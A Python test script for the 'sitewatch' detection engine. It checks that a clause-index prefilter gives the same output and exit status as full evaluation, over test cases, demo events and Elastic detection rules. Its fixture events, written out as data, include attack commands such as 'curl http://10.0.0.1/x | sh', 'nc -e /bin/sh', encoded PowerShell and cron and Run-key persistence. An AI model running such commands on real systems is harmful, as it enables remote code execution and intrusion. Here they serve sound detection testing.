#!/usr/bin/env python3
"""The clause index (src/engine/clause_index.c) changes no result. With `detect --no-prefilter`,
every line is parsed and every clause is evaluated in full; each run here compares standard
output and exit status with and without that option:

1. every case of tests/cases/*.cases;
2. the bundled rule over the demo events;
3. when $SITEWATCH_DATA contains Elastic's detection-rules corpus, its 1,094 queries as Kibana rules
   in one run, over events of the benchmark generator (built as bench/sitewatch-bench-gen in
   $SITEWATCH_BUILD) and over lines written here to reach the index's edge cases: \\u escapes in
   values and keys, characters that fold to ASCII, dotted and nested keys, numbers and booleans.

Usage: test_clause_index_cases.py SITEWATCH
"""

import json
import os
import pathlib
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import run_cases  # noqa: E402  (the case file parser)


# Lines for the corpus rules: each is a variant of a shape the rules test, written so that a
# value or a key reaches sitewatch in a raw form that differs from its decoded one.
EDGE_EVENTS = [
    {"@timestamp": "2024-01-01T00:00:00Z", "event": {"category": ["process"], "type": ["start"]},
     "host": {"os": {"type": "windows"}, "id": "h1"},
     "process": {"name": "cmd\\u002eexe", "args": ["cmd.exe", "/c", "whoami"],
                 "parent": {"name": "winword.exe"}}},
    {"@timestamp": "2024-01-01T00:00:01Z", "event.category": "process", "event.type": "start",
     "host.os.type": "linux", "host.id": "h1", "process.name": "bash",
     "process.args": ["bash", "-c", "curl http://10.0.0.1/x | sh"],
     "process.parent.name": "\u212aworker"},
    {"@timestamp": "2024-01-01T00:00:02Z", "event": {"category": "process", "type": "start",
                                                      "action": "exec"},
     "host": {"os": {"type": "linux"}, "id": "h2"},
     "process": {"name": "SH", "executable": "/tmp/.x/sh", "args_count": 2,
                 "command_line": "sh -c id", "parent": {"name": "java"}}},
    {"@timestamp": "2024-01-01T00:00:03Z", "event": {"category": ["file"], "type": ["creation"],
                                                      "action": "creation"},
     "host": {"os": {"type": "linux"}, "id": "h2"},
     "file": {"path": "/etc/cron.d/x", "name": "x", "extension": "sh"},
     "process": {"name": "python3", "executable": "/usr/bin/python3"}},
    {"@timestamp": "2024-01-01T00:00:04Z", "event": {"category": "network", "type": "start",
                                                      "action": "connection_attempted"},
     "host": {"os": {"type": "linux"}, "id": "h2"}, "destination": {"ip": "8.8.8.8", "port": 4444},
     "process": {"name": "nc", "executable": "/usr/bin/nc"}},
    {"@timestamp": "2024-01-01T00:00:05Z", "event": {"category": "registry", "type": "change"},
     "host": {"os": {"type": "windows"}, "id": "h1"},
     "registry": {"path": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x",
                  "data": {"strings": ["C:\\Users\\Public\\x.exe"]}},
     "process": {"name": "reg.exe"}},
    {"@timestamp": "2024-01-01T00:00:06Z", "event": {"category": "process", "type": "start"},
     "host": {"os": {"type": "windows"}, "id": "h1"},
     "process": {"name": "powershell.exe", "pe": {"original_file_name": "PowerShell.EXE"},
                 "args": ["-enc", "SQBFAFgA"], "command_line": "powershell -enc SQBFAFgA",
                 "parent": {"name": "explorer.exe"}, "pid": 12, "entity_id": "e1"}},
    {"@timestamp": "2024-01-01T00:00:07Z", "event": {"category": "authentication",
                                                      "outcome": "failure", "action": "ssh_login"},
     "host": {"os": {"type": "linux"}, "id": "h3"}, "user": {"name": "root"},
     "source": {"ip": "10.1.1.1"}, "process": {"name": "sshd"}},
    {"@timestamp": "2024-01-01T00:00:08Z", "event": {"category": "process", "type": "start"},
     "host": {"os": {"type": "linux"}, "id": "h3"}, "process": {"n\\u0061me": "nc",
                                                                 "args": ["nc", "-e", "/bin/sh"]}},
    {"@timestamp": "2024-01-01T00:00:08Z", "data_stream": {"dataset": "endpoint.alerts"},
     "host": {"os": {"type": "windows"}, "id": "h1"}, "event": {"code": "4697", "kind": "alert"},
     "winlog": {"event_data": {"ServiceFileName": "cmd.exe /c echo x"}}},
    {"@timestamp": "2024-01-01T00:00:09Z", "event": {"category": "process", "type": "start"},
     "host": {"os": {"type": "macos"}, "id": "h4"},
     "process": {"name": "osascript", "args": ["osascript", "-e", "display dialog"],
                 "code_signature": {"trusted": False, "exists": True}, "args_count": 3}},
]


def run(binary, arguments, folder, stdin=b""):
    result = subprocess.run([binary] + arguments, cwd=folder, input=stdin, capture_output=True,
                            timeout=600)
    return result.returncode, result.stdout


def compare(binary, arguments, folder, label, stdin=b""):
    """Returns a message when the runs with and without the index differ, else None."""
    assert arguments[0] == "detect"
    on = run(binary, arguments, folder, stdin)
    off = run(binary, ["detect", "--no-prefilter"] + arguments[1:], folder, stdin)
    if on == off:
        return None
    return "%s: with the clause index, status %d and %r; without, status %d and %r" % (
        label, on[0], on[1][:300], off[0], off[1][:300])


def check_case(binary, case):
    with tempfile.TemporaryDirectory(prefix="sitewatch-clause-index-") as tmp:
        folder = pathlib.Path(tmp)
        arguments = ["detect", "--quiet"]
        if case.query is not None:
            arguments += ["-q", case.query]
        arguments += case.options + run_cases.write_inputs(case, folder)
        stdin = ("\n".join(case.stdin) + "\n").encode() if case.stdin is not None else b""
        return compare(binary, arguments, folder, case.where(), stdin)


def corpus_rules(data, folder):
    """Writes the corpus queries as Kibana rules; returns the file, or None without the corpus."""
    corpus = data / "detection-rules" / "eql-queries.json"
    if not corpus.exists():
        return None
    with open(corpus) as f:
        queries = json.load(f)["queries"]
    path = folder / "corpus-rules.ndjson"
    with open(path, "w") as f:
        for i, q in enumerate(queries):
            f.write(json.dumps({
                "rule_id": "%s-%d" % (q["rule_id"], i), "name": q["name"], "type": "eql",
                "language": "eql", "query": q["query"], "index": q["index"],
                "risk_score": 47, "severity": "medium", "description": q["path"]}) + "\n")
    return path


def corpus_events(build, folder):
    """The edge-case lines, then 2 MB of generated events when the generator is built."""
    paths = [folder / "edges.ndjson"]
    with open(paths[0], "w") as f:
        for event in EDGE_EVENTS:
            # ensure_ascii=False keeps the KELVIN SIGN as itself; the \\u escapes above are
            # written into the strings on purpose, as backslash and 'u'.
            f.write(json.dumps(event, ensure_ascii=False).replace("\\\\u", "\\u") + "\n")
    gen = build / "bench" / "sitewatch-bench-gen"
    if gen.exists():
        paths.append(folder / "generated.ndjson")
        subprocess.run([str(gen), "--seed", "7", "--size", str(2 << 20), "-o", str(paths[1])],
                       check=True, capture_output=True)
    return paths


def check_corpus(binary, source):
    data = pathlib.Path(os.environ.get("SITEWATCH_DATA", source.parent / "shared" / "data"))
    build = pathlib.Path(os.environ.get("SITEWATCH_BUILD", pathlib.Path(binary).parent))
    with tempfile.TemporaryDirectory(prefix="sitewatch-clause-index-") as tmp:
        folder = pathlib.Path(tmp)
        rules = corpus_rules(data, folder)
        if rules is None:
            print("the detection-rules corpus is not in %s: its part is skipped" % data)
            return [], 0
        events = corpus_events(build, folder)
        arguments = ["detect", "--quiet", "-r", str(rules)] + [str(p) for p in events]
        message = compare(binary, arguments, folder, "the corpus rules over %s" % ", ".join(
            p.name for p in events))
        alerts = run(binary, arguments, folder, {})[1].count(b"\n")
        return ([message] if message else []), alerts


def main():
    if len(sys.argv) != 2:
        print(__doc__, file=sys.stderr)
        return 2
    binary = os.path.abspath(sys.argv[1])
    source = pathlib.Path(os.environ.get("SITEWATCH_SOURCE", pathlib.Path(__file__).resolve().parents[2]))
    failures = []
    count = 0
    for path in sorted((source / "tests" / "cases").glob("*.cases")):
        for case in run_cases.parse_case_file(path):
            count += 1
            message = check_case(binary, case)
            if message:
                failures.append(message)
    demo = sorted(str(p) for p in (source / "demo").glob("*.ndjson"))
    if demo:
        message = compare(binary, ["detect", "--quiet"] + demo, source, "the bundled rule over demo/")
        if message:
            failures.append(message)
    corpus_failures, alerts = check_corpus(binary, source)
    failures += corpus_failures
    for message in failures:
        print("FAIL " + message)
    print("%d cases, the demo and the corpus rules (%d alerts) compared with and without the "
          "clause index: %d differences" % (count, alerts, len(failures)))
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
